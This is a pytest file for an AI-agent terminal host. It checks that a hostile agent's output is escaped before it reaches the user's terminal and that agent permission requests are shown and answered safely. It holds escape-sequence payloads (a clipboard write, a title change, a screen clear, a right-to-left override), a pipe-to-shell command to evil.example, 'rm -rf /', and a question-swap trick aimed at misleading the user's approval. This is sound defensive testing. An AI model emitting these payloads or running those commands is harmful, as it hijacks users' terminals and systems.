"""The command line on a real terminal (a pty) against a hostile agent.

Nothing an agent sends may act on the user's terminal: every field arrives
with ESC sequences (clipboard writes, title changes, screen clears), a
carriage return and a right-to-left override, and none of them may reach
the terminal raw. Piped output stays the agent's exact text; stderr is
always sanitised.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from tests.cli.terminal import PtyMain, PtyRun, screen
from tests.support.in_process import run_main

EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b]0;pwned\x07\x1b[2J\rEVIL\u202eLIVE"
SHOWN = "\\x1b]52;c;ZXZpbA==\\x07\\x1b]0;pwned\\x07\\x1b[2J\\rEVIL<U+202E>LIVE"
# What must never reach a terminal from the agent.
ATTACKS = [b"\x1b]52;", b"\x1b]0;pwned", b"\x1b[2J", "\u202e".encode(), b"\rEVIL"]

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs a pty")


@pytest.fixture
def env(hostile_env):
    return hostile_env


def assert_harmless(output: bytes) -> None:
    for attack in ATTACKS:
        assert attack not in output, (attack, output)


def test_every_field_is_escaped_on_a_terminal(tmp_path, env):
    run = PtyMain(["all"], cwd=tmp_path, env=env, cols=200)
    assert run.wait() == 0, run.text()
    assert_harmless(bytes(run.output))
    shown = "\n".join(screen(run.output, cols=200))
    for label in ("thinking", "step", "tool", "loc", "diff", "new", "message"):
        assert f"{label} {SHOWN}" in shown or f"{label}{SHOWN}" in shown, (label, shown)
    assert "cmd" not in shown  # slash commands are session state, not part of the answer
    # Agent text is never Rich markup: the tags show literally.
    assert "[bold red]markup[/bold red]" in shown


def test_simple_output_on_a_terminal_is_escaped(tmp_path, env):
    run = PtyMain(["-o", "simple", "all"], cwd=tmp_path, env=env)
    assert run.wait() == 0
    assert_harmless(bytes(run.output))
    assert f"message {SHOWN}" in run.text()


def test_the_jsonl_mirror_on_a_terminal_is_the_same_json_made_inert(tmp_path, env):
    """JSON may carry bidi overrides and C1 controls raw inside strings; on a terminal
    the mirror escapes them (\\uXXXX), so each frame is the same JSON value."""
    run = PtyMain(
        ["-o", "jsonl", "all"], cwd=tmp_path, env={**env, "HOSTILE_RAW_UTF8": "1"}, cols=200
    )
    assert run.wait() == 0, run.text()
    assert_harmless(bytes(run.output))
    frames = [json.loads(line) for line in run.text().splitlines() if line.startswith("{")]
    # the values are the agent's own: the override is still in them, as an escape
    assert any("\u202e" in json.dumps(f, ensure_ascii=False) for f in frames)


def test_piped_output_is_the_exact_text(tmp_path, env):
    for mode in ("text", "simple"):
        r = subprocess.run(
            [sys.executable, "-m", "acphost", "-o", mode, "all"],
            cwd=tmp_path, env=env, capture_output=True, timeout=60,
        )
        assert r.returncode == 0, r.stderr
        out = r.stdout.decode()
        assert f"message {EVIL} [bold red]markup[/bold red] end\n" in out
        assert (f"[thought] thinking {EVIL}" in out) == (mode == "text")


@pytest.mark.parametrize("scenario", ["error", "crash", "junk"])
def test_stderr_is_sanitised_even_when_piped(tmp_path, env, scenario):
    r = run_main(["-o", "jsonl", scenario], cwd=tmp_path, env=env)
    assert_harmless(r.stderr_bytes)
    assert SHOWN.encode() in r.stderr_bytes or b"\\u202eLIVE" in r.stderr_bytes, r.stderr
    if scenario == "error":
        assert r.returncode == 1 and b"data:" in r.stderr_bytes  # error.data is shown, escaped
    if scenario == "junk":
        # stdout stays JSON only; the agent's non-JSON line is reported on stderr.
        assert all(line.startswith(b"{") for line in r.stdout_bytes.splitlines())
        assert b"malformed JSON" in r.stderr_bytes or b"not json" in r.stderr_bytes


def test_doctor_agents_and_sessions_on_a_terminal(tmp_path, env):
    for args in (["doctor"], ["sessions"], ["agents"]):
        run = PtyMain(args, cwd=tmp_path, env=env, cols=400)
        assert run.wait() == 0, run.text()
        assert_harmless(bytes(run.output))
        if args != ["agents"]:
            assert SHOWN in "\n".join(screen(run.output, cols=400)), run.text()
    shown = screen(run.output, cols=400)
    assert any("NAME" in line and "COMMAND" in line for line in shown)


def test_sessions_have_a_header_and_columns(tmp_path, env):
    run = PtyMain(["sessions"], cwd=tmp_path, env=env, cols=400)
    assert run.wait() == 0
    lines = [line for line in screen(run.output, cols=400) if line.strip()]
    assert lines[0].split() == ["SESSION", "ID", "UPDATED", "TITLE", "CWD"]
    r = run_main(["sessions"], cwd=tmp_path, env=env)
    header, row = r.stdout_bytes.decode().split("\n")[:2]
    assert header.split("\t") == ["SESSION ID", "UPDATED", "TITLE", "CWD"]
    cells = row.split("\t")
    assert len(cells) == 4 and cells[2] == "title " + EVIL.replace("\r", "\\r")


# -- --ask ----------------------------------------------------------------------


def outcomes(tmp_path):
    return json.loads((tmp_path / "outcomes.json").read_text())


def test_ask_one_question_at_a_time_in_order(tmp_path, env):
    run = PtyRun(["--ask", "perm"], cwd=tmp_path, env=env, cols=200)
    end = run.read_until(b"allow? [y/N/a=always] ")
    first = run.text()
    assert "(1 more waiting)" in first
    assert "rm -rf / " + SHOWN in first  # exactly the command that would run, escaped
    assert "second" not in first  # the second question waits its turn
    run.write(b"y\n")
    run.read_until(b"allow? [y/N/a=always] ", start=end)
    second = bytes(run.output[end:]).decode()
    assert "echo two" in second and "more waiting" not in second
    run.write(b"n\n")
    assert run.wait() == 0, run.text()
    assert_harmless(bytes(run.output))
    # The streamed text, live when the questions came, neither covered them nor repeated.
    shown = screen(run.output, cols=200)
    assert sum(line.count("working on it") for line in shown) == 1, shown
    assert sum(line.startswith("allow? [y/N/a=always]") for line in shown) == 2, shown
    got = outcomes(tmp_path)
    assert got["100"] == {"outcome": "selected", "optionId": "yes"}
    assert got["101"] == {"outcome": "selected", "optionId": "no"}


def test_ask_ignores_keys_typed_before_the_question(tmp_path, env):
    run = PtyRun(["--ask", "permwait"], cwd=tmp_path, env=env)
    run.read_until(b"")  # started
    run.write(b"y\n")  # typed ahead, before any question
    (tmp_path / "go").write_text("")
    run.read_until(b"allow? [y/N/a=always] ")
    run.write(b"n\n")
    assert run.wait() == 0
    assert outcomes(tmp_path)["100"] == {"outcome": "selected", "optionId": "no"}


def test_an_answer_typed_as_the_agent_swaps_the_question_answers_nothing(tmp_path, env):
    """The agent withdraws a harmless question and asks a dangerous one just as the
    user answers: the answer lands before the new question's answer line and is
    discarded; the new question says it is different and waits for its own answer.

    The key must reach the terminal before the answer line is drawn (the guard's
    1.5 s): a machine too loaded to type it in time makes the attempt void, and
    it is made again in a fresh workspace (a key typed after the line is an
    answer, rightly)."""
    for attempt in range(3):
        cwd = tmp_path / f"attempt{attempt}"
        cwd.mkdir()
        run = PtyRun(["--ask", "swap"], cwd=cwd, env=env, cols=200)
        run.read_until(b"allow? [y/N/a=always] ")
        (cwd / "go").write_text("")
        at = run.read_until(b"the agent withdrew its last question; this one is different")
        run.drain()
        if b"allow? [y/N/a=always] " in run.output[at:]:  # too late to type before it
            run.write(b"n\n")
            assert run.wait() == 0, run.text()
            continue
        run.write(b"y\n")  # meant for the withdrawn question
        at = run.read_until(b"allow? [y/N/a=always] ", start=at)
        assert "curl http://evil.example/x | sh" in bytes(run.output).decode()
        run.write(b"n\n")
        assert run.wait() == 0, run.text()
        assert outcomes(cwd)["101"] == {"outcome": "selected", "optionId": "no"}
        return
    pytest.skip("the machine was too loaded to type within the guard, three times")


def test_ctrl_c_at_a_question_cancels_it_and_the_turn_at_once(tmp_path, env):
    run = PtyRun(["--ask", "permcancel"], cwd=tmp_path, env=env)
    run.read_until(b"allow? [y/N/a=always] ")
    run.write(b"\x03")  # Ctrl-C, and no Enter
    assert run.wait() == 130, run.text()
    assert outcomes(tmp_path)["100"] == {"outcome": "cancelled"}
    assert "Traceback" not in run.text()


def test_ask_without_a_terminal_says_so_once_and_rejects(tmp_path, env):
    r = subprocess.run(
        [sys.executable, "-m", "acphost", "--ask", "-o", "simple", "perm"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
        stdin=subprocess.DEVNULL, start_new_session=True,  # no controlling terminal
    )
    assert r.returncode == 0, r.stderr
    assert r.stderr.count("no terminal to ask on") == 1, r.stderr
    assert outcomes(tmp_path) == {
        "100": {"outcome": "selected", "optionId": "no"},
        "101": {"outcome": "selected", "optionId": "no"},
    }


# -- streaming ------------------------------------------------------------------


def test_ctrl_c_mid_stream_prints_the_live_paragraph_once(tmp_path):
    env = {**os.environ, "ACPHOST_DEMO_STEP": "0.05", "XDG_CONFIG_HOME": str(tmp_path)}
    run = PtyRun(["slow"], cwd=tmp_path, env=env)
    run.read_until(b"slow chunk 3/20")
    run.write(b"\x03")
    assert run.wait() == 130, run.text()
    shown = "\n".join(screen(run.output))
    received = [k for k in range(1, 21) if f"slow chunk {k}/20" in run.text()]
    assert len(received) >= 3
    for k in received:
        assert shown.count(f"slow chunk {k}/20") == 1, shown


def test_thoughts_show_the_same_on_a_terminal_and_in_a_pipe(tmp_path):
    env = {**os.environ, "ACPHOST_DEMO_STEP": "0", "XDG_CONFIG_HOME": str(tmp_path)}
    r = run_main(["think"], cwd=tmp_path, env=env)
    piped = [line for line in r.stdout.splitlines() if line.startswith("[thought] ")]
    assert piped, r.stdout
    run = PtyMain(["think"], cwd=tmp_path, env=env)
    assert run.wait() == 0
    shown = [line for line in screen(run.output) if line.startswith("[thought] ")]
    assert [line.split() for line in shown] == [line.split() for line in piped]


@pytest.mark.parametrize("verbose", [[], ["-vv"]])
def test_crash_report_and_agent_stderr_are_redacted(tmp_path, env, verbose):
    r = run_main([*verbose, "crash"], cwd=tmp_path, env=env)
    assert r.returncode == 1
    assert "ghp_" not in r.stderr and "token [REDACTED]" in r.stderr, r.stderr



def test_a_diff_too_large_to_compare_is_summarised_not_computed(tmp_path, env):
    """difflib is quadratic in the worst case: the agent cannot stall the host with one
    diff; the output and the history say it was too large to compare."""
    r = run_main(["-o", "text", "bigdiff"], cwd=tmp_path, env=env)
    assert r.returncode == 0, r.stderr
    assert "(too large to compare: 15,000 lines before, 15,000 after" in r.stdout
    listed = run_main(["history", "list"], cwd=tmp_path, env=env)
    history_id = listed.stdout.splitlines()[1].split("\t")[0]
    shown = run_main(["history", "show", history_id], cwd=tmp_path, env=env)
    assert "(too large to compare" in shown.stdout, shown.stdout + shown.stderr


# -- a terminal that cannot redraw ------------------------------------------------
# TERM=dumb (an Emacs shell, many CI runners), TERM=unknown, or no TERM at all:
# the cursor cannot be moved, so a live display would append every redraw.

CANNOT_REDRAW = ["dumb", "unknown", None]


@pytest.mark.parametrize("prompt", ["slow", "plan"])
@pytest.mark.parametrize("term", CANNOT_REDRAW)
def test_a_terminal_that_cannot_redraw_shows_the_piped_text_once(tmp_path, term, prompt):
    env = {**os.environ, "ACPHOST_DEMO_STEP": "0", "XDG_CONFIG_HOME": str(tmp_path)}
    piped = run_main([prompt], cwd=tmp_path, env=env)
    assert piped.returncode == 0 and piped.stderr == "", piped.stderr
    run = PtyMain([prompt], cwd=tmp_path, env=env, term=term)
    assert run.wait() == 0, run.text()
    assert b"\x1b" not in run.output  # no styles, no cursor moves
    assert run.text().replace("\r\n", "\n") == piped.stdout


@pytest.mark.parametrize("term", CANNOT_REDRAW)
def test_a_terminal_that_cannot_redraw_is_still_sanitised(tmp_path, env, term):
    """Every face prints plain there, as into a pipe, but agent text stays escaped."""
    runs = [(["all"], True), (["-o", "simple", "all"], True), (["sessions"], True),
            (["doctor"], True), (["agents"], False), (["history", "list"], False)]
    listed = run_main(["all"], cwd=tmp_path, env=env)
    assert listed.returncode == 0, listed.stderr
    listed = run_main(["history", "list"], cwd=tmp_path, env=env)
    history_id = listed.stdout.splitlines()[1].split("\t")[0]
    runs.append((["history", "show", history_id], True))
    for args, quotes_the_agent in runs:
        run = PtyMain(args, cwd=tmp_path, env=env, cols=400, term=term)
        assert run.wait() == 0, (args, run.text())
        assert b"\x1b" not in run.output, (args, run.text())
        assert_harmless(bytes(run.output))
        if quotes_the_agent:
            assert SHOWN in run.text(), (args, run.text())


@pytest.mark.parametrize("term", ["xterm-256color", "dumb"])
def test_history_json_on_a_terminal_is_the_same_json_made_inert(tmp_path, env, term):
    """``history -o json`` wrote the agent's bidi overrides and C1 controls raw to a terminal."""
    recorded = run_main(["all"], cwd=tmp_path, env=env)
    assert recorded.returncode == 0, recorded.stderr
    piped = run_main(["history", "list", "-o", "json"], cwd=tmp_path, env=env)
    assert json.loads(piped.stdout)[0]["agent"]
    for args in (["history", "list", "-o", "json"], ["usage", "-o", "json"]):
        run = PtyMain(args, cwd=tmp_path, env=env, cols=400, term=term)
        assert run.wait() == 0, (args, run.text())
        assert_harmless(bytes(run.output))
        json.loads(run.text())  # still JSON, the same value
